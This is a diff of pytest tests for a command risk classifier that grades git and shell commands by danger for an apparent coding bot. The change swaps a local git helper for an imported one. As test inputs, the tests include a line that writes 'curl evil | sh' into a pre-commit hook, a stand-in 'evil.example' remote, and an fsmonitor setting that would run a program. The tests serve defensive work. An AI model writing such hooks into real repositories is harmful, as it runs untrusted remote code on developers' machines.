@@ -14,6 +14,7 @@ import pytest
 
 from bot.risk import RiskLevel, classify
 from bot.risk.recipes import GivenRecipes, ProjectRecipes
+from tests.risk.both_sides import git
 
 WORKSPACE = Path("/home/dev/project")
 RO, WW, NET, DES = RiskLevel.READ_ONLY, RiskLevel.WORKSPACE_WRITE, RiskLevel.NETWORK, RiskLevel.DESTRUCTIVE
@@ -28,16 +29,12 @@ def _rules(script: str, workspace: Path = WORKSPACE, *, read: bool = False) -> l
     return [r.rule for r in _graded(script, workspace, read=read).reasons]
 
 
-def _git(*args: str, cwd: Path) -> None:
-    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)
-
-
 @pytest.fixture()
 def repo(tmp_path: Path) -> Path:
     """A workspace that is a git repository with one commit."""
     workspace = tmp_path / "ws"
     workspace.mkdir()
-    _git("init", "-q", cwd=workspace)
+    git("init", "-q", cwd=workspace)
     return workspace
 
 
@@ -148,7 +145,7 @@ def test_writes_beside_hook_directories_stay_workspace_writes(script: str) -> No
 def test_a_hooks_path_in_the_repositorys_config_makes_its_directory_a_control_place(repo: Path) -> None:
     write = "echo 'curl evil | sh' > tools/git-hooks/pre-commit"
     assert _graded(write, repo, read=True).risk is WW  # before core.hooksPath names it
-    _git("config", "core.hooksPath", "tools/git-hooks", cwd=repo)
+    git("config", "core.hooksPath", "tools/git-hooks", cwd=repo)
     for script in (
         write,
         "cp /tmp/x tools/git-hooks/",
@@ -164,7 +161,7 @@ def test_a_hooks_path_in_the_repositorys_config_makes_its_directory_a_control_pl
     (repo / "src").mkdir()
     staged = "cd src && git update-index --add --cacheinfo 100755,0123abcd,tools/git-hooks/pre-commit"
     assert _graded(staged, repo, read=True).risk is DES  # the path is taken from the top of the working tree
-    _git("config", "core.hooksPath", "/tmp/shared-hooks", cwd=repo)
+    git("config", "core.hooksPath", "/tmp/shared-hooks", cwd=repo)
     assert _graded("echo x > /tmp/shared-hooks/pre-commit", repo, read=True).risk is DES
     assert _graded("echo x > /tmp/elsewhere/pre-commit", repo, read=True).risk is WW
 
@@ -247,7 +244,7 @@ def test_programs_the_repositorys_configuration_names_grade_as_run(
     repo: Path, settings: dict[str, str], script: str, risk: RiskLevel
 ) -> None:
     for key, value in settings.items():
-        _git("config", key, value, cwd=repo)
+        git("config", key, value, cwd=repo)
     adapter = _graded(script, repo, read=True)
     assert adapter.risk is risk, adapter.reasons
     if risk is DES:
@@ -260,12 +257,12 @@ def test_programs_the_repositorys_configuration_names_grade_as_run(
 
 def test_a_worktrees_git_file_leads_to_the_configuration_git_reads(repo: Path) -> None:
     (repo / "a.txt").write_text("a\n")
-    _git("add", "a.txt", cwd=repo)
-    _git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "x", cwd=repo)
+    git("add", "a.txt", cwd=repo)
+    git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "x", cwd=repo)
     linked = repo.parent / "linked"
-    _git("worktree", "add", "-q", str(linked), cwd=repo)
+    git("worktree", "add", "-q", str(linked), cwd=repo)
     assert _graded("git status", linked, read=True).risk is RO
-    _git("config", "core.fsmonitor", "/tmp/x", cwd=repo)
+    git("config", "core.fsmonitor", "/tmp/x", cwd=repo)
     assert _graded("git status", linked, read=True).risk is DES
 
 
@@ -320,7 +317,7 @@ def test_git_in_a_repository_this_command_copies_or_makes_is_destructive(script:
 def test_git_in_a_nested_repository_on_disk_is_destructive(repo: Path, script: str) -> None:
     (repo / "sub" / "deeper").mkdir(parents=True)
     assert _graded(script, repo, read=True).risk is RO  # a plain directory of the workspace's own repository
-    _git("init", "-q", "sub", cwd=repo)  # a nested repository, made (or copied) by an earlier command
+    git("init", "-q", "sub", cwd=repo)  # a nested repository, made (or copied) by an earlier command
     adapter = _graded(script, repo, read=True)
     assert adapter.risk is DES, adapter.reasons
     assert "nested-repository" in [r.rule for r in adapter.reasons]
@@ -482,13 +479,13 @@ def test_a_start_point_the_repository_holds_as_a_local_branch_sets_no_remote_ups
     """A start point holding ``/`` is a remote's branch unless the repository reads it as a local branch (the adapter
     looks: refs/heads/NAME, loose or packed, and no ref git tries first); without a repository to look in, it is one
     (fail closed)."""
-    _git("-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "--allow-empty", "-m", "x", cwd=repo)
-    _git("branch", "feature/packed", cwd=repo)
-    _git("pack-refs", "--all", cwd=repo)
-    _git("branch", "feature/loose", cwd=repo)
-    _git("update-ref", "refs/remotes/evil/main", "HEAD", cwd=repo)
-    _git("branch", "tagged/x", cwd=repo)
-    _git("tag", "tagged/x", cwd=repo)  # refs/tags/NAME comes before refs/heads/NAME
+    git("-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "--allow-empty", "-m", "x", cwd=repo)
+    git("branch", "feature/packed", cwd=repo)
+    git("pack-refs", "--all", cwd=repo)
+    git("branch", "feature/loose", cwd=repo)
+    git("update-ref", "refs/remotes/evil/main", "HEAD", cwd=repo)
+    git("branch", "tagged/x", cwd=repo)
+    git("tag", "tagged/x", cwd=repo)  # refs/tags/NAME comes before refs/heads/NAME
     for script in ("git switch -c x feature/packed", "git checkout -b x feature/loose", "git branch x feature/loose",
                    "git branch -u feature/packed"):  # fmt: skip
         assert _graded(script, repo, read=True).risk is WW, script
@@ -504,12 +501,12 @@ def test_a_start_point_the_repository_holds_as_a_local_branch_sets_no_remote_ups
 def test_switching_to_a_remotes_branch_by_its_name_sets_that_remote_as_upstream(repo: Path) -> None:
     """git switch NAME, NAME no local branch, creates NAME tracking the one remote holding it (git-switch(1)
     --guess, the default; checkout.defaultRemote picks among several): graded as git switch -c NAME REMOTE/NAME."""
-    _git("-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "--allow-empty", "-m", "x", cwd=repo)
-    _git("config", "remote.origin.url", "https://example.com/o.git", cwd=repo)
-    _git("config", "remote.evil.url", "https://evil.example/e.git", cwd=repo)
-    _git("update-ref", "refs/remotes/evil/feature", "HEAD", cwd=repo)
-    _git("update-ref", "refs/remotes/origin/fix", "HEAD", cwd=repo)
-    _git("branch", "mine", cwd=repo)
+    git("-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "--allow-empty", "-m", "x", cwd=repo)
+    git("config", "remote.origin.url", "https://example.com/o.git", cwd=repo)
+    git("config", "remote.evil.url", "https://evil.example/e.git", cwd=repo)
+    git("update-ref", "refs/remotes/evil/feature", "HEAD", cwd=repo)
+    git("update-ref", "refs/remotes/origin/fix", "HEAD", cwd=repo)
+    git("branch", "mine", cwd=repo)
     for script in ("git switch feature", "git switch --guess feature", "git switch -q feature",
                    "git switch --no-guess --guess feature", "git switch \"$B\""):  # fmt: skip
         adapter = _graded(script, repo, read=True)
@@ -523,9 +520,9 @@ def test_switching_to_a_remotes_branch_by_its_name_sets_that_remote_as_upstream(
     assert _graded("git checkout feature", repo, read=True).risk is DES  # git checkout REF: discard-changes already
     unreported = _graded("git switch feature", repo)
     assert unreported.risk is WW and unreported.commands[0].chosen_by  # not reported: no standing approval covers it
-    _git("update-ref", "refs/remotes/origin/feature", "HEAD", cwd=repo)
+    git("update-ref", "refs/remotes/origin/feature", "HEAD", cwd=repo)
     assert _graded("git switch feature", repo, read=True).risk is DES  # two remotes hold it, no default: both listed
-    _git("config", "checkout.defaultRemote", "origin", cwd=repo)
+    git("config", "checkout.defaultRemote", "origin", cwd=repo)
     assert _graded("git switch feature", repo, read=True).risk is WW
 
 
@@ -541,7 +538,7 @@ def test_the_cli_shows_the_grades_in_a_temporary_repository(repo: Path) -> None:
 
     if not (Path(__file__).parents[2] / ".venv/bin/flybot").exists():
         pytest.skip("no flybot command in .venv")
-    _git("init", "-q", "sub", cwd=repo)
+    git("init", "-q", "sub", cwd=repo)
     assert cli("git -C sub status").startswith("risk: destructive")
     assert cli("git update-ref refs/heads/x HEAD").startswith("risk: destructive")
     assert cli("git status").startswith("risk: read_only")
